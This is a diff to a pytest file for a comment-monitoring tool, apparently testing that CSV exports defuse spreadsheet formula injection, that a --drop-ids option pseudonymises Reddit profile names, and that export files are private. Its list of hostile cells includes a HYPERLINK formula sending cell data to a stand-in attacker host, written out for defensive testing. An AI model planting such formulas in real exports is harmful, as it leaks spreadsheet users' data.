@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import csv
+import stat
 
 import pyarrow.parquet as pq
 import pytest
 from sqlalchemy import select, update
 
 from monitor.metrics.rollups import rebuild
+from monitor.records import CommunityRef
 from monitor.store.db import transaction
 from monitor.store.models import Comment, Score
 
@@ -76,7 +78,14 @@ def test_metrics_command_refreshes_rollups(engine, db_url, tmp_path):
 
 # Text cells a spreadsheet runs as formulas (OWASP's list), and a quote, which would be ambiguous otherwise
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1"]
+# after leading whitespace, which an import may trim: space, line breaks, no-break and ideographic spaces
+HOSTILE += [" =1+1", "\n=1+1", "  +1", "\r\n@SUM(1)", "\u00a0=1", "\u3000-1", " \t=1"]
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_led(cell: str) -> bool:
+    """Whether a spreadsheet could read `cell` as a formula once leading whitespace is trimmed."""
+    return cell.lstrip().startswith(TRIGGERS) or cell.startswith(TRIGGERS)
 
 
 def seed_hostile(engine):
@@ -108,7 +117,7 @@ def test_csv_cells_cannot_run_as_formulas(engine, db_url, tmp_path):
             rows = list(csv.DictReader(handle))
         raw = pq.read_table(out / f"{name}.parquet")  # Parquet keeps the raw text
         text = {f.name for f in raw.schema if f.type == "string"}
-        assert rows and all(not row[c].startswith(TRIGGERS) for row in rows for c in text)
+        assert rows and not [row[c] for row in rows for c in text if formula_led(row[c])]
         assert [float(row[c]) for row in rows for c in set(row) - text if row[c]]  # the rest are numbers
         for row, original in zip(rows, raw.to_pylist(), strict=True):  # one ' off gives back the exact text
             assert {c: row[c][1:] if row[c].startswith("'") else row[c] for c in text} == {
@@ -238,3 +247,47 @@ def test_permalinks_are_built_from_ids_not_taken_from_the_store(engine, db_url, 
         f"https://www.reddit.com/r/{r['community'].partition('/')[2]}/comments/{r['thread_id']}/_/{r['comment_id']}/"
         for r in rows
     }
+
+
+def export_cells(folder):
+    """Every cell of every table, CSV and Parquet."""
+    cells = set()
+    for name in ("comments", "rollups"):
+        with (folder / f"{name}.csv").open(newline="", encoding="utf-8") as handle:
+            cells |= {v for row in csv.DictReader(handle) for v in row.values()}
+        cells |= {str(v) for row in pq.read_table(folder / f"{name}.parquet").to_pylist() for v in row.values()}
+    return cells
+
+
+@pytest.mark.parametrize("user", ["someone", "Some-One_2"])
+def test_drop_ids_pseudonymises_a_users_profile_community(engine, db_url, tmp_path, user):
+    """`reddit/u_NAME` names its user: --drop-ids re-keys the name, the same in comments and rollups."""
+    seed(engine, [Seed("p0", MONDAY + 61, 0.2), Seed("p1", MONDAY + 4_000, 0.3)], CommunityRef("reddit", f"u_{user}"))
+    seed(engine, [Seed("s0", MONDAY + 90, 0.1, thread="t2")])
+    rebuild(engine, MODEL)
+    result = civmon_on(tmp_path, db_url, "export", "--out", "out", "--drop-ids")
+    assert result.returncode == 0, result.stderr
+    cells = export_cells(tmp_path / "out")
+    assert not [cell for cell in cells if user.lower() in cell.lower()]
+    communities = {r["community"] for r in comments_csv(tmp_path / "out")}
+    profile = {c for c in communities if c.startswith("reddit/u_")}
+    assert len(profile) == 1 and communities - profile == {"reddit/seeded"}  # other names stay as they are
+    with (tmp_path / "out" / "rollups.csv").open(newline="", encoding="utf-8") as handle:
+        assert {r["community"] for r in csv.DictReader(handle)} == communities
+    kept = civmon_on(tmp_path, db_url, "export", "--out", "kept")  # an export to keep names it
+    assert kept.returncode == 0, kept.stderr
+    assert f"reddit/u_{user}" in export_cells(tmp_path / "kept")
+
+
+@pytest.mark.parametrize("drop_ids", [False, True])
+def test_export_files_are_private(engine, db_url, tmp_path, drop_ids):
+    """Bodies and pseudonyms are as private as the database and key: files 0600, a folder it makes 0700."""
+    seeded(engine)
+    result = civmon_on(tmp_path, db_url, "export", "--out", "new/out", *(["--drop-ids"] if drop_ids else []))
+    assert result.returncode == 0, result.stderr
+    folder = tmp_path / "new" / "out"
+    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
+    files = {path.name: stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()}
+    assert files == dict.fromkeys(
+        ["comments.csv", "comments.parquet", "rollups.csv", "rollups.parquet", "DATA_DICTIONARY.md"], 0o600
+    )
